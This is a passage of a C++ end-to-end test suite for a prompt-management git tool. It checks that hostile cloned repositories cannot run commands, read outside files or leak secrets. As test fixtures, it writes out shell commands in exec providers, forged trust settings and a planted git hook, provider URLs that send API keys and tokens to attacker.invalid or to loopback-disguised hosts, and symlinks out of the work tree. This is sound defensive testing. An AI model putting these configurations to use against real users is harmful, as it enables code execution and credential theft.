// SPDX-License-Identifier: MIT
// End-to-end: a repository built to attack whoever reads it (commands to run, secrets for a
// foreign host, links out of the work tree, loops, /dev/zero, a FIFO, deep nesting, forged
// notes), cloned for real, and every command that reads a repository run in the clone: nothing
// executes, nothing outside is read, no secret leaves, and each stops quickly with one line.
//
// The assertions do not depend on the wording of messages: exit status, no death by a signal,
// wall time, peak memory, how many lines stderr has, marker files that a command would create,
// and marker strings (an environment secret and the content of a file outside the repository)
// that must appear in no output, no request the loopback server saw, no file under
// .git/promptops and no git object of the clone. Requests for a foreign host are seen too:
// http_proxy/https_proxy point at the loopback server, so a request for attacker.invalid
// arrives there (absolute-form, or CONNECT for https) instead of failing on DNS.
#include <fcntl.h>
#include <signal.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <chrono>
#include <filesystem>
#include <fstream>
#include <map>
#include <set>
#include <sstream>
#include <string>
#include <thread>
#include <vector>

#include <catch2/catch.hpp>
#include <nlohmann/json.hpp>

#include "e2e/eval_fixture.hpp"
#include "e2e/gate_fixture.hpp"
#include "support/harness.hpp"
#include "support/spawn.hpp"
#include "support/llm_server.hpp"

using namespace promptops::test;
using promptops::test::eval::greet_cases;
using promptops::test::gate::gate_rules;
using promptops::test::gate::k_names;
namespace fs = std::filesystem;

namespace {

// --- limits every command runs under -------------------------------------------------------------

constexpr std::chrono::seconds k_time_limit{20};                  // killed (with its group) after this
constexpr rlim_t k_address_space = rlim_t{2} << 30;               // 2 GiB: /dev/zero cannot take the VM
constexpr rlim_t k_file_size = rlim_t{64} << 20;                  // stdout of /dev/zero ends in SIGXFSZ
constexpr long k_max_rss_kib = 256 * 1024;                        // a capped reader stays far below
constexpr std::size_t k_max_output_read = std::size_t{1} << 20;  // what the test reads back per stream

// The markers that must never leave: every secret variable's value contains the first; the files
// outside the repository that the hostile links name contain the second.
const std::string k_env_secret = "hostile-secret-4242";
const std::string k_outside_secret = "outside-secret-7777";

// How one command ended.
struct Outcome {
  std::string label;  // the command line, for messages
  int exit_code = -1;  // 128 + N after signal N
  bool killed = false;  // it ran past k_time_limit and was killed
  std::chrono::milliseconds elapsed{0};
  long max_rss_kib = 0;
  std::string out;
  std::string err;
};

std::string read_prefix(const fs::path& file, std::size_t limit) {
  std::error_code ec;
  const std::uintmax_t size = fs::file_size(file, ec);
  // Sized by the file, not the limit: zero-filling 64 MiB per small file cost minutes per test.
  std::string text(ec ? 0 : static_cast<std::size_t>(std::min<std::uintmax_t>(size, limit)), '\0');
  std::ifstream stream(file, std::ios::binary);
  stream.read(text.data(), static_cast<std::streamsize>(text.size()));
  text.resize(static_cast<std::size_t>(stream.gcount()));
  return text;
}

std::string joined(const std::vector<std::string>& argv) {
  std::string out;
  for (const std::string& arg : argv) {
    out += (out.empty() ? "" : " ") + arg;
  }
  return out;
}

// Runs argv (looked up in PATH) in `cwd` with `env` as its whole environment, stdin from
// /dev/null, in its own process group, under the address-space and file-size limits, without
// core dumps; kills the group after k_time_limit. Reports time and peak RSS (of the command and
// the children it waited for).
Outcome run_bounded(const fs::path& cwd, const std::vector<std::string>& argv,
                    const std::map<std::string, std::string>& env, const fs::path& scratch) {
  Outcome outcome;
  outcome.label = joined(argv);
  SpawnSpec spec;
  spec.argv = argv;
  for (const auto& [name, value] : env) {
    spec.env.push_back(name + "=" + value);
  }
  spec.cwd = cwd;
  spec.own_group = true;
  spec.limits = {{RLIMIT_AS, {k_address_space, k_address_space}},
                 {RLIMIT_FSIZE, {k_file_size, k_file_size}},
                 {RLIMIT_CORE, {0, 0}}};
  const fs::path out_file = scratch / "stdout";
  const fs::path err_file = scratch / "stderr";
  spec.in = ::open("/dev/null", O_RDONLY | O_CLOEXEC);
  spec.out = ::open(out_file.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  spec.err = ::open(err_file.c_str(), O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
  REQUIRE(spec.in >= 0);
  REQUIRE(spec.out >= 0);
  REQUIRE(spec.err >= 0);

  const auto start = std::chrono::steady_clock::now();
  const pid_t pid = promptops::test::spawn(spec);
  ::close(spec.in);
  ::close(spec.out);
  ::close(spec.err);
  REQUIRE(pid > 0);

  int status = 0;
  rusage usage{};
  for (;;) {
    const pid_t reaped = ::wait4(pid, &status, WNOHANG, &usage);
    if (reaped == pid) {
      break;
    }
    if (reaped < 0 && errno != EINTR) {
      FAIL("wait4 failed for " << outcome.label);
    }
    if (std::chrono::steady_clock::now() - start >= k_time_limit) {
      outcome.killed = true;
      ::kill(-pid, SIGKILL);
      while (::wait4(pid, &status, 0, &usage) < 0 && errno == EINTR) {
      }
      break;
    }
    std::this_thread::sleep_for(std::chrono::milliseconds(5));
  }
  ::kill(-pid, SIGKILL);  // whatever the command left running in its group
  outcome.elapsed = std::chrono::duration_cast<std::chrono::milliseconds>(std::chrono::steady_clock::now() - start);
  outcome.exit_code = WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
  outcome.max_rss_kib = usage.ru_maxrss;
  outcome.out = read_prefix(out_file, k_max_output_read);
  outcome.err = read_prefix(err_file, k_max_output_read);
  return outcome;
}

std::vector<std::string> lines_of(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream stream(text);
  for (std::string line; std::getline(stream, line);) {
    lines.push_back(line);
  }
  return lines;
}

bool contains(const std::string& text, const std::string& needle) { return text.find(needle) != std::string::npos; }

// The lines of `text` that hold a marker, or "" when none does.
std::string marked_lines(const std::string& text) {
  std::string out;
  for (const std::string& line : lines_of(text)) {
    if (contains(line, k_env_secret) || contains(line, k_outside_secret)) {
      out += line.substr(0, 300) + "\n";
    }
  }
  return out;
}

// --- the hostile world: an origin built to attack, its clone, and what lies around them ------------

// The benign project every attack starts from: the loopback provider "local" as the default model,
// and greet ("Hey {{who}}!", right for all eight names) with its dataset.
const char* const k_greet_eval = "dataset = \"evals/greet.jsonl\"\nmetric = \"accuracy\"\n";

std::string greet(const std::string& text, const std::string& eval = k_greet_eval) {
  return "template = \"" + text + "\"\n\n[vars]\nwho = { required = true }\n\n[eval]\n" + eval;
}

std::string local_provider(const LlmServer& server) {
  return "[providers.local]\n"
         "kind = \"openai\"\n"
         "base_url = \"" +
         server.base_url() +
         "\"\n"
         "retry_delay = 0.01\n"
         "max_retries = 0\n";
}

std::string config(const LlmServer& server, const std::string& default_provider = "local",
                   const std::string& extra = "") {
  return local_provider(server) + extra + "\n[defaults.model]\nprovider = \"" + default_provider +
         "\"\nname = \"test-model\"\n";
}

// <root>/outside (files the repository must not reach), <root>/pwned (where a command that runs
// leaves a file), <root>/home (the user's empty HOME), <root>/clone (the user's clone of the
// origin), a loopback model server that is also the proxy for every other host, and the origin.
class HostileWorld {
 public:
  HostileWorld() {
    for (const char* dir : {"outside", "outside/dir", "pwned", "home", "home/.config", "scratch"}) {
      fs::create_directories(m_root.path() / dir);
    }
    write_outside("secret.toml", "description = \"" + k_outside_secret + "\"\ntemplate = \"" + k_outside_secret +
                                     " {{who}}\"\n");
    write_outside("dir/inner.toml", "description = \"" + k_outside_secret + "\"\ntemplate = \"" +
                                        k_outside_secret + " {{who}}\"\n");
    write_outside("cases.jsonl", nlohmann::json({{"id", "outside"},
                                                  {"vars", {{"who", k_outside_secret}}},
                                                  {"expected", "ok"}})
                                         .dump() +
                                     "\n");
    write_outside("config.toml", local_provider(server) + "\n[defaults.model]\nprovider = \"local\"\nname = \"" +
                                     k_outside_secret + "\"\n");
    REQUIRE(::mkfifo((outside() / "fifo").c_str(), 0600) == 0);

    server.set_rules(gate_rules());
    origin.write(".promptops.toml", config(server));
    origin.write(".gitattributes", "*.toml diff=promptops\n*.prompt diff=promptops\n");
    origin.write("evals/greet.jsonl", greet_cases(k_names));
    origin.write("prompts/greet.toml", greet("Hey {{who}}!"));
    origin.write("README.md", "# a project\n");
    origin.commit("a project");
  }

  fs::path root() const { return m_root.path(); }
  fs::path outside() const { return root() / "outside"; }
  fs::path pwned() const { return root() / "pwned"; }
  fs::path clone_path() const { return root() / "clone"; }

  // A file in the origin's work tree, or a symbolic link there (committed as a link).
  void write(const std::string& relative, const std::string& content) const { origin.write(relative, content); }
  void link(const std::string& relative, const std::string& target) const {
    const fs::path file = origin.path() / relative;
    fs::create_directories(file.parent_path());
    fs::remove(file);
    fs::create_symlink(target, file);
  }
  std::string commit(const std::string& message) { return origin.commit(message); }

  // `git clone file://ORIGIN clone`: a real clone, as a user makes of someone else's repository.
  void clone() const {
    const RunResult r = run(root(), {"git", "clone", "-q", "file://" + origin.path().string(), "clone"}, env());
    INFO("git clone: " << r.err);
    REQUIRE(r.exit_code == 0);
  }

  // The environment of the user's commands: HOME inside the world (no global config), the built
  // binary first on PATH (hooks and textconv run `git promptops`), secrets in the usual
  // variables, and every host but loopback reached through the server as a proxy.
  std::map<std::string, std::string> env() const {
    std::map<std::string, std::string> e = test_environment();
    e["HOME"] = (root() / "home").string();
    e["XDG_CONFIG_HOME"] = (root() / "home" / ".config").string();
    e["PATH"] = promptops_binary().parent_path().string() + ":" + e["PATH"];
    e["GITHUB_TOKEN"] = k_env_secret;
    e["OPENAI_API_KEY"] = "sk-" + k_env_secret + "-openai";
    e["ANTHROPIC_API_KEY"] = "sk-ant-" + k_env_secret;
    e["AWS_SECRET_ACCESS_KEY"] = k_env_secret + "-aws";
    const std::string proxy = "http://127.0.0.1:" + std::to_string(server.port());
    e["http_proxy"] = proxy;
    e["https_proxy"] = proxy;
    e["HTTPS_PROXY"] = proxy;
    e["no_proxy"] = "127.0.0.1,localhost";
    return e;
  }

  // Each command is judged by its own requests: the server forgets what it saw before.
  Outcome promptops(const std::vector<std::string>& args) const {
    server.reset_counters();
    std::vector<std::string> argv = {promptops_binary().string()};
    argv.insert(argv.end(), args.begin(), args.end());
    Outcome o = run_bounded(clone_path(), argv, env(), root() / "scratch");
    o.label = "git promptops " + joined(args);
    return o;
  }

  Outcome git(const std::vector<std::string>& args) const {
    server.reset_counters();
    std::vector<std::string> argv = {"git"};
    argv.insert(argv.end(), args.begin(), args.end());
    return run_bounded(clone_path(), argv, env(), root() / "scratch");
  }

  // `git ARGS` in the clone that must succeed (the test's own steps).
  void clone_git(const std::vector<std::string>& args) const {
    const Outcome o = git(args);
    INFO(o.label << ": " << o.err);
    REQUIRE(o.exit_code == 0);
  }

  void write_clone(const std::string& relative, const std::string& content) const {
    std::ofstream(clone_path() / relative, std::ios::binary | std::ios::trunc) << content;
  }

  // --- what must not have happened ---

  // The files a command that ran left in pwned/ since the last call ("" when none); they are
  // removed so that the next command is judged alone.
  std::string new_pwned_files() const {
    std::string out;
    for (const auto& entry : fs::directory_iterator(pwned())) {
      out += entry.path().filename().string() + "\n";
    }
    for (const auto& entry : fs::directory_iterator(pwned())) {
      fs::remove(entry.path());
    }
    return out;
  }

  // Every request the server saw that holds a marker, one line each ("" when none).
  std::string leaked_requests() const {
    std::string out;
    for (const SeenRequest& request : server.seen()) {
      std::string text = request.method + " " + request.path;
      for (const auto& [name, value] : request.headers) {
        text += " " + name + ": " + value;
      }
      text += " " + request.body.dump(-1, ' ', false, nlohmann::json::error_handler_t::replace);
      if (contains(text, k_env_secret) || contains(text, k_outside_secret)) {
        out += text.substr(0, 300) + "\n";
      }
    }
    return out;
  }

  // Every request for a host other than the server itself: it came through the proxy, so its
  // target is absolute ("http://attacker.invalid/...") or an authority (CONNECT host:443).
  std::string foreign_requests() const {
    std::string out;
    for (const SeenRequest& request : server.seen()) {
      if (request.method == "CONNECT" || request.path.empty() || request.path.front() != '/') {
        out += request.method + " " + request.path + "\n";
      }
    }
    return out;
  }

  // What leaked_into_storage() finds that it did not find at the last call ("" when nothing).
  std::string new_leaks_in_storage() const {
    const std::string now = leaked_into_storage();
    std::string fresh;
    for (const std::string& line : lines_of(now)) {
      if (!contains(m_known_storage_leaks, line + "\n")) {
        fresh += line + "\n";
      }
    }
    m_known_storage_leaks = now;
    return fresh;
  }

  // Files under the clone's .git/promptops (cache, results, history) and git objects of the clone
  // (notes included) that hold a marker ("" when none).
  std::string leaked_into_storage() const {
    std::string out;
    const fs::path store = clone_path() / ".git" / "promptops";
    std::error_code ec;
    if (fs::exists(store, ec)) {
      for (auto it = fs::recursive_directory_iterator(store, ec); !ec && it != fs::recursive_directory_iterator();
           it.increment(ec)) {
        if (it->is_regular_file(ec) && !it->is_symlink(ec)) {
          const std::string text = read_prefix(it->path(), std::size_t{64} << 20);
          if (!marked_lines(text).empty()) {
            out += it->path().string() + "\n";
          }
        }
      }
    }
    const RunResult objects =
        run(clone_path(), {"git", "cat-file", "--batch-all-objects", "--batch"}, {{"HOME", env().at("HOME")}});
    const std::string marked = marked_lines(objects.out);
    if (!marked.empty()) {
      out += "git objects: " + marked;
    }
    return out;
  }

  mutable LlmServer server;  // reset before every command of the user's
  TempRepo origin;

 private:
  void write_outside(const std::string& relative, const std::string& content) const {
    std::ofstream(outside() / relative, std::ios::binary | std::ios::trunc) << content;
  }

  TempDir m_root;
  mutable std::string m_known_storage_leaks;
};

// --- assertions ------------------------------------------------------------------------------------

// The command ended by itself, in time, without a signal, within memory, with a short stderr
// (diagnostics, not file contents): at most `max_lines` lines, none of them longer than 500 bytes.
void expect_bounded(const Outcome& o, std::size_t max_lines = 6) {
  INFO(o.label << "\nexit " << o.exit_code << ", " << o.elapsed.count() << " ms, " << o.max_rss_kib
               << " KiB\nstderr: " << o.err.substr(0, 2000));
  CHECK_FALSE(o.killed);
  CHECK(o.elapsed < k_time_limit);
  CHECK(o.exit_code >= 0);
  CHECK(o.exit_code <= 2);  // 0, 1 or 2: never a signal (128 + N), never a git-level failure
  CHECK(o.max_rss_kib < k_max_rss_kib);
  const std::vector<std::string> lines = lines_of(o.err);
  CHECK(lines.size() <= max_lines);
  for (const std::string& line : lines) {
    CHECK(line.size() <= 500);
  }
}

// How many lines of stderr are `git-promptops: error:` lines, and how many follow the last one.
std::pair<std::size_t, std::size_t> error_lines(const std::string& err) {
  std::size_t errors = 0;
  std::size_t after = 0;
  for (const std::string& line : lines_of(err)) {
    if (line.starts_with("git-promptops: error:")) {
      ++errors;
      after = 0;
    } else {
      ++after;
    }
  }
  return {errors, after};
}

// expect_bounded(), and the command refused: status 2, one `git-promptops: error:` line on
// stderr with at most one line (the hint) after it.
void expect_refused_cleanly(const Outcome& o) {
  expect_bounded(o, 4);
  INFO(o.label << "\nstderr: " << o.err.substr(0, 2000));
  CHECK(o.exit_code == 2);
  const auto [errors, after] = error_lines(o.err);
  CHECK(errors == 1);
  CHECK(after <= 1);
}

// Nothing ran, no marker left: not in the command's output, not in a request, not in the store.
void expect_no_leak(const HostileWorld& world, const Outcome& o, bool foreign_hosts_allowed = false) {
  INFO(o.label);
  CHECK(marked_lines(o.out) == "");
  CHECK(marked_lines(o.err) == "");
  CHECK(world.leaked_requests() == "");
  if (!foreign_hosts_allowed) {
    CHECK(world.foreign_requests() == "");
  }
  CHECK(world.new_leaks_in_storage() == "");
  CHECK(world.new_pwned_files() == "");
}

// --- the commands that read a repository ------------------------------------------------------------

// What the readers aim at, and which of them must refuse.
struct Target {
  std::string prompt = "greet";               // the prompt that show, render, eval, bisect and log name
  std::string file = "prompts/greet.toml";    // the file that textconv reads
  std::set<std::string> refuse;               // labels (below) of the commands that must stop with one line
  std::set<std::string> block;                // labels of the commands that must not exit 0 (a lint verdict will do)
  bool hook_blocks = false;                   // the pre-commit hook must stop a commit of a greet change
  bool foreign_hosts_allowed = false;         // a request for another host may happen (it carries no secret)
  std::string greet_eval = k_greet_eval;      // greet's [eval] in the attack, for the hook's greet change
};

struct Reader {
  std::string label;
  std::vector<std::string> args;
};

std::vector<Reader> readers(const Target& t) {
  return {
      {"list", {"list"}},
      {"list --at", {"list", "--at", "HEAD"}},
      {"show", {"show", t.prompt}},
      {"show @HEAD", {"show", t.prompt + "@HEAD"}},
      {"render", {"render", t.prompt, "--var", "who=Ann"}},
      {"render @HEAD", {"render", t.prompt + "@HEAD", "--var", "who=Ann"}},
      {"lint", {"lint"}},
      {"lint --at", {"lint", "--at", "HEAD"}},
      {"eval", {"eval", "--", t.prompt}},
      {"eval HEAD", {"eval", "HEAD", "--", t.prompt}},
      {"check", {"check", "HEAD"}},
      {"review", {"review", "HEAD~1..HEAD"}},
      {"compare", {"compare", "HEAD~1", "HEAD"}},
      {"diff", {"diff", "HEAD~1", "HEAD"}},
      {"diff worktree", {"diff", "HEAD~1"}},
      {"textconv", {"textconv", t.file}},
      // --verify: the bad side, the hostile one, is evaluated (by default it is taken as given).
      {"bisect", {"bisect", t.prompt, "--good", "HEAD~1", "--bad", "HEAD", "--verify"}},
      {"export", {"export", "HEAD"}},
      {"export --worktree", {"export", "--worktree"}},
      {"log", {"log", t.prompt}},
  };
}

// The evaluating commands: with an untrusted command or a secret for a foreign host in the way,
// each of them must stop before it starts.
const std::set<std::string> k_evaluations = {"eval", "eval HEAD", "check", "review", "compare", "bisect"};

// Runs every reader in the clone, then `hooks install`, `git diff` through textconv, and a
// commit of a greet change through the installed pre-commit hook.
void run_every_reader(const HostileWorld& world, const Target& target) {
  for (const Reader& reader : readers(target)) {
    const Outcome o = world.promptops(reader.args);
    INFO("reader: " << reader.label);
    if (target.refuse.count(reader.label) > 0) {
      expect_refused_cleanly(o);
    } else {
      expect_bounded(o);
    }
    if (target.block.count(reader.label) > 0) {
      CHECK(o.exit_code != 0);
    }
    expect_no_leak(world, o, target.foreign_hosts_allowed);
  }

  const Outcome install = world.promptops({"hooks", "install"});
  expect_bounded(install);
  CHECK(install.exit_code == 0);
  expect_no_leak(world, install, target.foreign_hosts_allowed);

  for (const std::vector<std::string>& args :
       {std::vector<std::string>{"diff", "HEAD~1", "HEAD"}, std::vector<std::string>{"diff", "HEAD~1"},
        std::vector<std::string>{"log", "-p", "-2"}}) {
    const Outcome o = world.git(args);
    expect_bounded(o);
    expect_no_leak(world, o, target.foreign_hosts_allowed);
  }

  world.write_clone("prompts/greet.toml", greet("Yo {{who}}!", target.greet_eval));
  world.clone_git({"add", "prompts/greet.toml"});
  const Outcome commit = world.git({"commit", "-q", "-m", "greet: say yo"});
  expect_bounded(commit, 30);  // the hook may print the gate's report and a lint warning per link
  expect_no_leak(world, commit, target.foreign_hosts_allowed);
  if (target.hook_blocks) {
    INFO(commit.label << "\nstderr: " << commit.err);
    CHECK(commit.exit_code != 0);
  }
}

// greet's dataset is the attack: evaluating greet in the working tree stops with one line, and
// a check of HEAD (which reads greet from the commit) does not pass.
void expect_greet_evaluations_stop(const HostileWorld& world) {
  const Outcome eval = world.promptops({"eval", "--", "greet"});
  expect_refused_cleanly(eval);
  expect_no_leak(world, eval);
  const Outcome check = world.promptops({"check", "HEAD"});
  expect_bounded(check);
  CHECK(check.exit_code != 0);
  expect_no_leak(world, check);
}

std::string deep(const std::string& open, const std::string& close, int depth) {
  std::string out;
  out.reserve((open.size() + close.size()) * static_cast<std::size_t>(depth));
  for (int i = 0; i < depth; ++i) {
    out += open;
  }
  for (int i = 0; i < depth; ++i) {
    out += close;
  }
  return out;
}

}  // namespace

// --- commands -------------------------------------------------------------------------------------

TEST_CASE("a hostile repository cannot make any command run a program", "[e2e][hostile]") {
  HostileWorld world;
  const std::string pwned = world.pwned().string();
  const auto touch = [&](const std::string& name) { return "echo pwned > " + pwned + "/" + name; };
  Target target;
  target.refuse = k_evaluations;
  target.hook_blocks = true;

  SECTION("an exec provider as the default model, with every tracked claim of trust") {
    world.write(".promptops.toml", config(world.server, "evil",
                                          "\n[providers.evil]\nkind = \"exec\"\ncommand = [\"/bin/sh\", \"-c\", \"" +
                                              touch("provider") + "; echo ok\"]\n"));
    // Git reads none of these; neither may the tool.
    world.write(".gitconfig", "[promptops]\n\ttrustExec = true\n[core]\n\thooksPath = .githooks\n");
    world.write(".gitmodules", "[promptops]\n\ttrustExec = true\n");
    world.write(".promptops/config", "[promptops]\n\ttrustExec = true\n");
    world.write(".githooks/pre-commit", "#!/bin/sh\n" + touch("githook") + "\n");
    fs::permissions(world.origin.path() / ".githooks/pre-commit", fs::perms::owner_all);
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("run the model as a script");
    // The attacker trusts their own repository; a clone does not carry that.
    world.origin.git({"config", "promptops.trustExec", "true"});
    world.clone();
    run_every_reader(world, target);
  }
  SECTION("an exec assertion in the prompt") {
    world.write("prompts/greet.toml",
                greet("Hey {{who}}!!", std::string(k_greet_eval) + "assert = [{ type = \"exec\", value = \"" +
                                           touch("assertion") + "\" }]\n"));
    world.commit("score with a script");
    world.clone();
    target.greet_eval = std::string(k_greet_eval) + "assert = [{ type = \"exec\", value = \"" + touch("assertion") +
                        "\" }]\n";
    run_every_reader(world, target);
  }
  SECTION("an exec assertion in one case of the dataset") {
    std::string cases = greet_cases(k_names);
    cases += nlohmann::json({{"id", "script"},
                             {"vars", {{"who", "Ann"}}},
                             {"assert", {{{"type", "exec"}, {"value", touch("case-assertion")}}}}})
                 .dump() +
             "\n";
    world.write("evals/greet.jsonl", cases);
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("a case scored by a script");
    world.clone();
    run_every_reader(world, target);
  }
  SECTION("an llm-rubric judge that is an exec provider") {
    const std::string rubric =
        std::string(k_greet_eval) +
        "assert = [{ type = \"llm-rubric\", value = \"is it polite\", provider = \"judge\", model = \"j\" }]\n";
    world.write(".promptops.toml",
                config(world.server, "local",
                       "\n[providers.judge]\nkind = \"exec\"\ncommand = [\"/bin/sh\", \"-c\", \"" + touch("judge") +
                           "; echo '{\\\"pass\\\": true, \\\"score\\\": 1}'\"]\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", rubric));
    world.commit("judge with a script");
    world.clone();
    target.greet_eval = rubric;
    run_every_reader(world, target);
  }
  SECTION("an exec provider whose program is a FIFO outside the repository (never even opened)") {
    world.write(".promptops.toml", config(world.server, "evil",
                                          "\n[providers.evil]\nkind = \"exec\"\ncommand = [\"" +
                                              (world.outside() / "fifo").string() + "\"]\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("run a fifo");
    world.clone();
    run_every_reader(world, target);
  }
  SECTION("an exec provider whose program is /dev/zero (never even hashed)") {
    world.write(".promptops.toml",
                config(world.server, "evil", "\n[providers.evil]\nkind = \"exec\"\ncommand = [\"/dev/zero\"]\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("run /dev/zero");
    world.clone();
    run_every_reader(world, target);
  }
  SECTION("an exec provider whose program is a link in the repository to /dev/zero") {
    world.write(".promptops.toml",
                config(world.server, "evil", "\n[providers.evil]\nkind = \"exec\"\ncommand = [\"tools/model\"]\n"));
    world.link("tools/model", "/dev/zero");
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("run a link to /dev/zero");
    world.clone();
    run_every_reader(world, target);
  }
}

TEST_CASE("a tracked .promptops.toml that says it is trusted changes nothing", "[e2e][hostile]") {
  HostileWorld world;
  const std::string touch = "echo pwned > " + world.pwned().string() + "/provider";
  world.write(".promptops.toml", "trustExec = true\n\n[promptops]\ntrustExec = true\n\n" +
                                     config(world.server, "evil",
                                            "\n[providers.evil]\nkind = \"exec\"\ncommand = [\"/bin/sh\", \"-c\", \"" +
                                                touch + "; echo ok\"]\n"));
  world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
  world.commit("trust me");
  world.clone();
  Target target;
  // The unknown keys make the config invalid: commands that evaluate stop on it, check blocks
  // on the lint error, and review reports (it never blocks); nothing runs in any case.
  target.refuse = {"eval", "eval HEAD", "compare", "bisect"};
  target.block = {"check"};
  target.hook_blocks = true;
  run_every_reader(world, target);
}

TEST_CASE("a hostile repository cannot send a secret to a host the user has not trusted", "[e2e][hostile]") {
  HostileWorld world;
  Target target;
  target.refuse = k_evaluations;
  target.hook_blocks = true;
  const auto evil = [&](const std::string& provider_toml) {
    world.write(".promptops.toml", config(world.server, "evil", "\n[providers.evil]\n" + provider_toml));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!"));
    world.commit("a provider of our own");
    world.clone();
  };

  SECTION("the kind's own variable to a foreign host") {
    evil("kind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\napi_key_env = \"OPENAI_API_KEY\"\n"
         "max_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("GITHUB_TOKEN to a foreign host over https") {
    evil("kind = \"openai\"\nbase_url = \"https://attacker.invalid/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n"
         "max_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("GITHUB_TOKEN to the kind's well-known host") {
    evil("kind = \"openai\"\nbase_url = \"https://api.openai.com/v1\"\napi_key_env = \"GITHUB_TOKEN\"\n"
         "max_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("an anthropic provider on a foreign host, the key in a header of its choosing") {
    evil("kind = \"anthropic\"\nbase_url = \"http://attacker.invalid/v1\"\napi_key_env = \"ANTHROPIC_API_KEY\"\n"
         "api_key_header = \"x-collect\"\nmax_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("a foreign host dressed as loopback: userinfo") {
    evil("kind = \"openai\"\nbase_url = \"http://127.0.0.1:" + std::to_string(world.server.port()) +
         "@attacker.invalid/v1\"\napi_key_env = \"OPENAI_API_KEY\"\nmax_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("a foreign host dressed as loopback: a subdomain") {
    evil("kind = \"openai\"\nbase_url = \"http://127.0.0.1.attacker.invalid/v1\"\n"
         "api_key_env = \"OPENAI_API_KEY\"\nmax_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("a foreign host dressed as loopback: localhost as a subdomain") {
    evil("kind = \"openai\"\nbase_url = \"http://localhost.attacker.invalid/v1\"\n"
         "api_key_env = \"AWS_SECRET_ACCESS_KEY\"\nmax_retries = 0\n");
    run_every_reader(world, target);
  }
  SECTION("a judge on a foreign host while the model is local") {
    const std::string rubric =
        std::string(k_greet_eval) +
        "assert = [{ type = \"llm-rubric\", value = \"is it polite\", provider = \"evil\", model = \"j\" }]\n";
    world.write(".promptops.toml",
                config(world.server, "local",
                       "\n[providers.evil]\nkind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\n"
                       "api_key_env = \"GITHUB_TOKEN\"\nmax_retries = 0\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", rubric));
    world.commit("judge elsewhere");
    world.clone();
    target.greet_eval = rubric;
    run_every_reader(world, target);
  }
  SECTION("a model-graded judge (factuality) on a foreign host while the model is local") {
    const std::string judged = std::string(k_greet_eval) +
                               "assert = [{ type = \"factuality\", value = \"hi\", provider = \"evil\", model = \"j\" }]\n";
    world.write(".promptops.toml",
                config(world.server, "local",
                       "\n[providers.evil]\nkind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\n"
                       "api_key_env = \"GITHUB_TOKEN\"\nmax_retries = 0\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", judged));
    world.commit("factuality judge elsewhere");
    world.clone();
    target.greet_eval = judged;
    run_every_reader(world, target);
  }
  SECTION("embeddings on a foreign host while the model is local") {
    const std::string similar =
        std::string(k_greet_eval) + "assert = [{ type = \"similar\", value = \"ok\", provider = \"evil\" }]\n";
    world.write(".promptops.toml",
                config(world.server, "local",
                       "\n[providers.evil]\nkind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\n"
                       "api_key_env = \"OPENAI_API_KEY\"\nmax_retries = 0\n"));
    world.write("prompts/greet.toml", greet("Hey {{who}}!!", similar));
    world.commit("embed elsewhere");
    world.clone();
    target.greet_eval = similar;
    run_every_reader(world, target);
  }
  SECTION("headers that name variables, to a foreign host (they may go, the secret may not)") {
    target.refuse.clear();
    target.hook_blocks = false;
    target.foreign_hosts_allowed = true;
    evil("kind = \"openai\"\nbase_url = \"http://attacker.invalid/v1\"\nmax_retries = 0\n"
         "headers = { \"X-A\" = \"${GITHUB_TOKEN}\", \"X-B\" = \"$GITHUB_TOKEN\", \"X-C\" = \"env:GITHUB_TOKEN\", "
         "\"X-D\" = \"{{env.GITHUB_TOKEN}}\" }\n");
    run_every_reader(world, target);
  }
}

TEST_CASE("a hostile repository cannot make any command read outside it", "[e2e][hostile]") {
  HostileWorld world;
  const std::string outside = world.outside().string();
  Target target;

  SECTION("a prompt that is an absolute link to a file outside") {
    world.link("prompts/leak.toml", outside + "/secret.toml");
    world.commit("link out");
    world.clone();
    target.prompt = "leak";
    target.file = "prompts/leak.toml";
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
  SECTION("a prompt that is a relative link climbing out") {
    world.link("prompts/leak.toml", "../../outside/secret.toml");
    world.commit("link up and out");
    world.clone();
    target.prompt = "leak";
    target.file = "prompts/leak.toml";
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
  SECTION("a prompt directory that is a link to a directory outside") {
    world.link("prompts/linked", outside + "/dir");
    world.commit("link a directory out");
    world.clone();
    target.prompt = "linked/inner";
    target.file = "prompts/linked/inner.toml";
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
  SECTION("a prompt root that is a link to a directory outside") {
    world.write(".promptops.toml", "prompts = [\"prompts\", \"more\"]\n\n" + config(world.server));
    world.link("more", outside + "/dir");
    world.commit("a root outside");
    world.clone();
    target.prompt = "inner";
    target.file = "more/inner.toml";
    target.refuse = {"show", "render", "eval"};
    run_every_reader(world, target);
  }
  SECTION("a prompt root that climbs out by its path") {
    world.write(".promptops.toml", "prompts = [\"prompts\", \"../outside/dir\"]\n\n" + config(world.server));
    world.commit("a root up and out");
    world.clone();
